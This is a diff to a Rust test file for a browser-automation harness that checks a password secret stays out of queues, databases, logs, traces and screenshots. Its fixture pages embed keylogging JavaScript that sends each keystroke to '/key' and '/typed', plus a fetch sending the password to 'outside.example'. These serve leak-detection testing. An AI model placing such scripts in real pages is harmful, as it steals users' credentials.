@@ -5,6 +5,7 @@ use crate::collector::Collector;
 use crate::kit::{Cluster, files};
 use crate::sweep::{Exhibit, Hit, Search, databases, kafka, redis};
 use harness::model::{Dialect, ModelRequest, ModelServer, Reply};
+use harness::redaction::{AWKWARD, Part, Tally, forms};
 use harness::site::{RunningSite, Site};
 use serde_json::{Value, json};
 use std::collections::BTreeSet;
@@ -12,21 +13,40 @@ use std::path::{Path, PathBuf};
 use std::time::Duration;
 
 /// Has everything in it that some encoding writes in another way.
-const SECRET: &str = "Sesam & \"öffne\\dich\"/+ 4711?";
+const SECRET: &str = AWKWARD;
 
 /// Where its value stands for the processes.
 const VARIABLE: &str = "SHOP_PASSWORD";
 
+/// What machines call it that keep it.
+const NAME: &str = "shop-password";
+
 /// What stands in the secret's place.
 const REFERENCE: &str = "${secret:password}";
 
+/// Says what is typed with each key, and key by key.
 const LOGIN: &str = r#"<h1>Shop</h1><form action=/welcome><label>User <input name=user></label>
-<label>Password <input type=password name=password></label><button>Log in</button></form>"#;
+<label>Password <input type=password name=password id=password></label><button>Log in</button></form><ul id=grown></ul><script>
+const grown = document.getElementById('grown');
+document.getElementById('password').oninput = (event) => {
+  const echo = event.target.value;
+  grown.append(Object.assign(document.createElement('li'), { textContent: echo }));
+  console.error('typed ' + echo);
+  fetch('/typed?is=' + encodeURIComponent(echo));
+};
+document.getElementById('password').onkeydown = (event) => {
+  if (event.key.length > 1) return;
+  console.error('key ' + event.key);
+  fetch('/key?is=' + encodeURIComponent(event.key));
+};
+</script>"#;
 
 /// Echoes the password by every way out of a page.
 const WELCOME: &str = r#"<h1>Welcome</h1><meta name=description content=x><p id=plain></p><p id=long></p><p id=component></p>
 <p id=address></p><p id=json></p><p id=base64></p><p id=basic></p><input id=field aria-label=Field required>
-<select id=list aria-label=List></select><a id=out>Leave</a><button id=told>Tell</button><iframe id=frame></iframe><script>
+<select id=list aria-label=List></select><ul id=forms></ul><p id=letters></p>
+<div style="position:fixed;left:700px;top:20px;width:60px;height:60px;background:#00aa00"></div>
+<div style="position:fixed;left:700px;top:100px;font:20px/20px monospace;white-space:nowrap" id=proof></div><a id=out>Leave</a><button id=told>Tell</button><iframe id=frame></iframe><script>
 const password = new URLSearchParams(location.search).get('password') ?? '';
 const base64 = text => btoa(String.fromCharCode(...new TextEncoder().encode(text)));
 const say = (id, text) => { document.getElementById(id).textContent = text; };
@@ -53,6 +73,13 @@ console.error({ password });
 fetch('/missing?password=' + encodeURIComponent(password) + '&basic=' + base64('anna:' + password));
 fetch(OUTSIDE + '?password=' + encodeURIComponent(password)).catch(() => {});
 localStorage.setItem('password', password);
+say('proof', password);
+for (const form of FORMS) {
+  document.getElementById('forms').append(Object.assign(document.createElement('li'), { textContent: form, title: form }));
+  console.error('form ' + form);
+  fetch('/form?is=' + form);
+}
+for (const letter of password) document.getElementById('letters').append(Object.assign(document.createElement('b'), { textContent: letter }));
 setTimeout(() => { throw new Error('thrown with ' + password); });
 </script>"#;
 
@@ -60,7 +87,9 @@ const FROM_ADDRESS: &str = "new URLSearchParams(location.search).get('password')
 
 /// The page that echoes, which knows the password by an expression.
 fn welcome(password: &str) -> String {
-    WELCOME.replace("OUTSIDE", "'http://outside.example/'").replace(FROM_ADDRESS, password)
+    let forms: Vec<String> = forms(SECRET).into_iter().map(|form| form.text).collect();
+    let forms = json!(forms).to_string().replace("</", "<\\/");
+    WELCOME.replace("OUTSIDE", "'http://outside.example/'").replace(FROM_ADDRESS, password).replace("FORMS", &forms)
 }
 
 async fn shop() -> RunningSite {
@@ -74,7 +103,9 @@ fn tasks(site: &RunningSite) -> String {
     let log_in = "Enter \"{password}\" into the \"Password\" field and click on the \"Log in\" button.";
     let leave = "Enter \"{password}\" into the \"Password\" field and click on the \"Log in\" button, then click on the \"Leave\" link.";
     let task = |id: &str, instruction: &str, check: Value| {
-        let secret = json!({"password": {"secret": {"env": VARIABLE}}});
+        // One of them names the secret as the machine does.
+        let reference = if id == "passes" { json!(NAME) } else { json!({"env": VARIABLE}) };
+        let secret = json!({"password": {"secret": reference}});
         let limits = json!({"steps": 6, "seconds": 60});
         json!({"id": id, "start_url": site.url("/"), "instruction": instruction, "parameters": secret, "check": check,
                "limits": limits})
@@ -101,6 +132,45 @@ fn assert_kept(search: &Search, what: &str, exhibits: &[Exhibit]) {
     eprintln!("{what}: {} exhibits, {} bytes", exhibits.len(), exhibits.iter().map(|e| e.bytes.len()).sum::<usize>());
 }
 
+/// Counts every form at a place, with its leaks.
+fn looked(part: &mut Part, search: &Search, wire: &str, place: &str, exhibits: &[Exhibit]) {
+    let hits = search.hits(exhibits);
+    for form in forms(SECRET) {
+        let hit = hits.iter().find(|hit| hit.form == form.name);
+        part.looked(form.name, place, wire, hit.map(|hit| format!("{hit:?}")));
+    }
+    // Beginnings of at least three letters, of which a page made texts of their own.
+    let told = Search::of([3, 5, 8, 12].map(|length| {
+        let beginning: String = SECRET.chars().take(length).collect();
+        ("a beginning", format!("typed {beginning}"))
+    }));
+    let hit = told.hits(exhibits).into_iter().next();
+    part.looked("growing", place, wire, hit.map(|hit| format!("{hit:?}")));
+}
+
+/// Counts the pixels of pictures that show the welcome page: those that it shows the password in are painted over.
+fn looked_at_pictures(part: &mut Part, wire: &str, exhibits: &[Exhibit]) -> usize {
+    let mut seen = 0;
+    for exhibit in exhibits {
+        let unpacked = zstd::decode_all(&exhibit.bytes[..]).unwrap_or_else(|_| exhibit.bytes.clone());
+        let Ok(picture) = image::load_from_memory(&unpacked) else { continue };
+        let picture = picture.to_rgba8();
+        // A green square says which page it is.
+        if picture.dimensions() < (1100, 130) || picture.get_pixel(730, 50).0 != [0, 0xaa, 0, 255] {
+            continue;
+        }
+        seen += 1;
+        let width = SECRET.chars().count() as u32 * 12;
+        let pixels = (101..119).flat_map(|y| (701..700 + width).map(move |x| (x, y)));
+        let bare = pixels.clone().filter(|(x, y)| picture.get_pixel(*x, *y).0 != [40, 40, 40, 255]).count();
+        part.pixels += pixels.count();
+        part.bare_pixels += bare;
+        let leak = (bare > 0).then(|| format!("{}: {bare} pixels are not painted over", exhibit.place));
+        part.looked("plain", "picture", wire, leak);
+    }
+    seen
+}
+
 /// Fails unless the reference stands where the secret would have been: there it was taken out, and was there.
 #[track_caller]
 fn assert_referred(what: &str, exhibits: &[Exhibit]) {
@@ -122,10 +192,23 @@ fn log_exhibits(logs: &[PathBuf]) -> Vec<Exhibit> {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_secret_that_a_page_echoes_is_kept_out_of_kafka_redis_postgres_blobs_logs_and_traces() {
+    kept_out_of_a_cluster("bidi").await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_secret_that_a_page_echoes_over_classic_webdriver_is_kept_out_of_kafka_redis_postgres_and_blobs() {
+    kept_out_of_a_cluster("classic").await;
+}
+
+async fn kept_out_of_a_cluster(wire: &str) {
+    let kept = tempfile::tempdir().expect("a directory");
+    std::fs::write(kept.path().join(NAME), SECRET).expect("written");
     let (site, collector, search) = (shop().await, Collector::start().await, Search::new(SECRET));
     let settings = format!(
-        "[traces]\nendpoint = \"{}\"\nservice = \"rutter\"\n[crawler]\nslots = 2\nallowed = {{ variables = [\"{VARIABLE}\"] }}\n",
-        collector.endpoint
+        "[traces]\nendpoint = \"{}\"\nservice = \"rutter\"\n[crawler]\nslots = 2\nsecrets_directory = \"{}\"\nbrowser = {{ wire = \"{wire}\" }}\n\
+         allowed = {{ variables = [\"{VARIABLE}\"], secrets = {{ {NAME} = [\"http://127.0.0.1:*\"] }} }}\n",
+        collector.endpoint,
+        kept.path().display()
     );
     let environment = [(VARIABLE, SECRET), ("RUTTER_LOG", "trace")];
     let mut cluster = Cluster::start(&settings, &environment).await;
@@ -165,6 +248,15 @@ async fn a_secret_that_a_page_echoes_is_kept_out_of_kafka_redis_postgres_blobs_l
     }
     assert_kept(&search, "what the command line said", &told);
     assert!(logs.iter().any(|log| String::from_utf8_lossy(&log.bytes).contains("DEBUG")), "no debugging logs");
+    let mut part = Part::default();
+    for (place, exhibits) in
+        [("topic", &topics), ("table", &tables), ("blob", &blobs), ("key", &cached), ("log", &logs), ("trace", &spans)]
+    {
+        looked(&mut part, &search, wire, place, exhibits);
+    }
+    assert!(looked_at_pictures(&mut part, wire, &blobs) > 0, "no picture shows the page");
+    Tally::put(&format!("cluster, {wire}"), part.clone()).expect("written");
+    assert!(part.leaks.is_empty(), "{} of {} combinations: {:#?}", part.leaks.len(), part.combinations, part.leaks);
 
     // The same search finds what stands there, packed or not.
     let stores = &cluster.stores;
@@ -192,10 +284,20 @@ async fn run_exhibits(directory: &Path) -> Vec<Exhibit> {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_secret_that_a_page_echoes_is_kept_out_of_everything_that_a_run_in_one_process_writes() {
+    kept_out_of_a_run("bidi").await;
+    kept_out_of_a_run("classic").await;
+}
+
+async fn kept_out_of_a_run(wire: &str) {
     let (site, search) = (shop().await, Search::new(SECRET));
     let folder = tempfile::tempdir().expect("a directory");
     std::fs::write(folder.path().join("tasks.jsonl"), tasks(&site)).expect("written");
-    let mut command = harness::program::command(&["run", "tasks.jsonl", "--run-dir", "RUN", "--output", "json"]);
+    let secrets = folder.path().join("config/rutter/secrets");
+    std::fs::create_dir_all(&secrets).expect("a folder");
+    std::fs::write(secrets.join(NAME), SECRET).expect("written");
+    let arguments = ["run", "tasks.jsonl", "--run-dir", "RUN", "--output", "json", "--wire", wire];
+    let mut command = harness::program::command(&arguments);
+    command.env("XDG_CONFIG_HOME", folder.path().join("config"));
     command.current_dir(folder.path()).env(VARIABLE, SECRET).env("RUTTER_LOG", "trace");
     let running = tokio::task::spawn_blocking(move || command.output());
     let said = tokio::time::timeout(Duration::from_secs(180), running).await.expect("in time").expect("joined");
@@ -206,6 +308,12 @@ async fn a_secret_that_a_page_echoes_is_kept_out_of_everything_that_a_run_in_one
     assert_kept(&search, "the run", &exhibits);
     let told = [Exhibit::new("what it printed", said.stdout), Exhibit::new("its log", said.stderr)];
     assert_kept(&search, "what it said", &told);
+    let mut part = Part::default();
+    looked(&mut part, &search, wire, "run directory", &exhibits);
+    looked(&mut part, &search, wire, "log", &told);
+    assert!(looked_at_pictures(&mut part, wire, &exhibits) > 0, "no picture shows the page");
+    Tally::put(&format!("one process, {wire}"), part.clone()).expect("written");
+    assert!(part.leaks.is_empty(), "{} of {} combinations: {:#?}", part.leaks.len(), part.combinations, part.leaks);
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -214,7 +322,7 @@ async fn a_secret_that_a_page_knows_from_the_beginning_is_in_no_prompt() {
     let site = Site::new().page("/", &welcome(&password)).page("/frame", LOGIN).start().await;
     let model = ModelServer::start(|_: &ModelRequest| Reply::Text("I do not know.".into())).await.expect("a free port");
     let folder = tempfile::tempdir().expect("a directory");
-    std::fs::write(folder.path().join("tasks.jsonl"), tasks(&site).lines().next().expect("a task")).expect("written");
+    std::fs::write(folder.path().join("tasks.jsonl"), tasks(&site).lines().nth(1).expect("a task")).expect("written");
     let url = model.base_url(Dialect::OpenAi);
     let arguments = ["run", "tasks.jsonl", "--run-dir", "RUN", "--planner", "hxagent", "--model", "scripted-1"];
     let of_model = ["--model-url", &url, "--model-key-env", "SCRIPTED_KEY"];
